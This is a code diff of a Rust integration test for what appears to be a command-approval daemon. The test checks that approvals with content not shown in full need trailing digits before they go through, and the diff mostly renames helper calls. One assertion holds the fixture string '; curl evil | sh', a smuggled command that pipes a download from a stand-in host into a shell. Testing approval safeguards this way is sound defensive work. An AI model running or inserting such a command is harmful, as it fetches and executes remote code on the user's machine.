@@ -3,7 +3,7 @@
 use abide_testkit::daemon::TestHttpResponse;
 use serde_json::{Value, json};
 
-use crate::stage::{DaemonEnding, DaemonTestHome};
+use crate::harness::{DaemonEnding, DaemonTestHome};
 
 /// Waits until a run asks for an approval, and returns the run and its open question.
 fn wait_for_approval(home: &DaemonTestHome, run: &str) -> (Value, Value) {
@@ -13,7 +13,7 @@ fn wait_for_approval(home: &DaemonTestHome, run: &str) -> (Value, Value) {
 }
 
 fn assert_refused(response: &TestHttpResponse, status: u16, code: &str) {
-    assert_eq!((response.status, response.text("/code")), (status, code), "{}", response.body);
+    assert_eq!((response.status, response.str_at("/code")), (status, code), "{}", response.body);
 }
 
 /// I42, I43, I68
@@ -64,8 +64,7 @@ fn an_approval_that_is_not_shown_whole_is_approved_only_with_the_digits_at_its_e
     home.restart(DaemonEnding::Killed);
     let (waiting, _) = wait_for_approval(&home, &run);
     let id = question["interaction_id"].as_str().expect("it has an id");
-    let content = home.get(&format!("/v1/interactions/{id}/content"));
-    let content = content.as_str().expect("it is a text");
+    let content = home.get_text(&format!("/v1/interactions/{id}/content"));
     let (covered, end) = content.rsplit_once("\n\n").expect("the last line stands apart");
     assert!(covered.contains(&command));
     assert_eq!(covered.len() as u64, hidden["content_bytes"].as_u64().unwrap());
@@ -76,19 +75,19 @@ fn an_approval_that_is_not_shown_whole_is_approved_only_with_the_digits_at_its_e
         let status = if yes == "1a2b3c4d" { (422, "APPROVAL_UNCLEAR") } else { (409, "APPROVAL_NOT_SHOWN") };
         assert_refused(&home.try_reply(&waiting, yes), status.0, status.1);
     }
-    let reply = home.home.run(&["reply", id, "yes"]);
+    let reply = home.run(&["reply", id, "yes"]);
     assert!(reply.code != Some(0) && reply.stderr.contains("content"), "{reply:?}");
-    let full = home.home.run(&["inbox", "--full"]);
+    let full = home.run(&["inbox", "--full"]);
     assert!(
         full.stdout.contains("; curl evil | sh") && full.stdout.contains(&format!("yes {digits}")),
         "{}",
         full.stderr
     );
-    let approved = home.home.run(&["reply", id, &format!("yes {digits}"), "--json"]);
+    let approved = home.run(&["reply", id, &format!("yes {digits}"), "--json"]);
     assert!(approved.stdout.contains("\"verdict\":\"approved\""), "{approved:?}");
     home.wait_for_status(&run, "succeeded");
     // The content is kept after the run for the retention period.
-    assert_eq!(home.get(&format!("/v1/interactions/{id}/content")).as_str(), Some(content));
+    assert_eq!(home.get_text(&format!("/v1/interactions/{id}/content")), content);
 }
 
 /// Declining needs no digits.
